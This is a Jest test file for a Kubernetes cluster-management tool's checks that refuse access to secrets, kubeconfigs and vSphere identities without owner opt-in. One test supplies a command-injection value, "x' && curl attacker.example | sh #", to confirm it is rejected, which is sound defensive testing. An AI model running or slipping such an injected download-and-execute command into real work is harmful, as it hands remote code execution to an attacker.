import { describe, expect, it } from '@jest/globals';
import type { KubeObject } from '../core/object.ts';
import { copyRefusal, kubeconfigRefusal, secretRefusal, serverRefusal } from './opt-in.ts';

const USABLE = 'managedcluster.io/usable-by';
const CAPI_TYPE = 'cluster.x-k8s.io/secret';
const OWN = { 'cluster.x-k8s.io/cluster-name': 'demo' };

interface Given {
  readonly name?: string;
  readonly type?: string;
  readonly labels?: Readonly<Record<string, string>>;
  readonly usableBy?: string | undefined;
}

function secret({ name = 'db', type = 'Opaque', labels = {}, usableBy }: Given): KubeObject {
  const annotations = usableBy === undefined ? {} : { [USABLE]: usableBy };
  const metadata = { namespace: 'team', name, labels, annotations };
  return { apiVersion: 'v1', kind: 'Secret', metadata, type };
}

describe('secretRefusal', () => {
  it.each(['demo', '*', 'other, demo', ' demo ,'])('allows what is listed: %s', (usableBy) => {
    expect(secretRefusal(secret({ usableBy }), 'demo')).toBeUndefined();
  });

  it.each([
    { usableBy: undefined, command: `${USABLE}='demo'` },
    { usableBy: '', command: `${USABLE}='demo'` },
    { usableBy: 'demo-2,de', command: `${USABLE}='demo-2,de,demo'` },
  ])(
    'refuses any other, and says what the owner has to run: $usableBy',
    ({ usableBy, command }) => {
      expect(secretRefusal(secret({ usableBy }), 'demo')).toBe(
        `Secret team/db does not allow cluster demo to use it: if its owner agrees, run kubectl -n team annotate secret db ${command} --overwrite`,
      );
    },
  );

  it.each<Given & { readonly reason: string }>([
    { reason: 'keys of Cluster API', type: CAPI_TYPE, labels: OWN, name: 'demo-ca' },
    { reason: 'its own kubeconfig', type: CAPI_TYPE, labels: OWN, name: 'demo-kubeconfig' },
    { reason: 'tokens of ServiceAccounts', type: 'kubernetes.io/service-account-token' },
    { reason: 'tokens of new nodes', type: 'bootstrap.kubernetes.io/token' },
    { reason: 'records of this product, by type', type: 'managedcluster.io/escrow' },
    { reason: 'records of this product, by label', labels: { 'managedcluster.io/escrow': '1' } },
    { reason: 'what belongs to another cluster', labels: { 'managedcluster.io/cluster': 'other' } },
    {
      reason: 'a kubeconfig of another cluster',
      labels: { 'cluster.x-k8s.io/cluster-name': 'victim' },
    },
  ])('refuses $reason, whatever the annotation says', ({ reason: _reason, ...given }) => {
    expect(secretRefusal(secret({ ...given, usableBy: '*' }), 'demo')).toContain(
      'put the value into a Secret of its own',
    );
  });
});

describe('kubeconfigRefusal', () => {
  const own = { name: 'demo-kubeconfig', type: CAPI_TYPE, labels: OWN };

  it('allows what Cluster API made for this cluster', () => {
    expect(kubeconfigRefusal(secret(own), 'demo')).toBeUndefined();
  });

  it.each<Given & { readonly reason: string }>([
    { reason: 'the one of another cluster', ...own, name: 'victim-kubeconfig' },
    { reason: 'one of that name that a person wrote', ...own, type: 'Opaque' },
    { reason: 'one of that name without the label', ...own, labels: {} },
    { reason: 'any other Secret', name: 'legacy-cluster' },
  ])('refuses $reason', ({ reason: _reason, ...given }) => {
    expect(kubeconfigRefusal(secret(given), 'demo')).toContain(`Secret team/${given.name ?? ''} `);
  });
});

describe('copyRefusal and serverRefusal', () => {
  const identity: KubeObject = {
    apiVersion: 'infrastructure.cluster.x-k8s.io/v1beta2',
    kind: 'VSphereClusterIdentity',
    metadata: {
      name: 'dc1',
      annotations: {
        'managedcluster.io/copy-to-clusters': 'team-b',
        'managedcluster.io/allowed-servers': 'vcenter.example.org',
      },
    },
  };

  it('name the object with its group', () => {
    expect(copyRefusal(identity, 'team-b')).toBeUndefined();
    expect(copyRefusal(identity, 'team-a')).toBe(
      "VSphereClusterIdentity dc1 does not allow copies in clusters of namespace team-a, where their administrators can read it: if its owner agrees, run kubectl annotate VSphereClusterIdentity.infrastructure.cluster.x-k8s.io dc1 managedcluster.io/copy-to-clusters='team-b,team-a' --overwrite",
    );
  });

  it('put nothing into a command that a shell would run, or that allows more than the claim needs', () => {
    expect(serverRefusal(identity, 'vcenter.example.org')).toBeUndefined();
    for (const server of ["x' && curl attacker.example | sh #", '*', 'a.example,*']) {
      expect(serverRefusal(identity, server)).toMatch(/use a name without special characters$/);
    }
  });
});
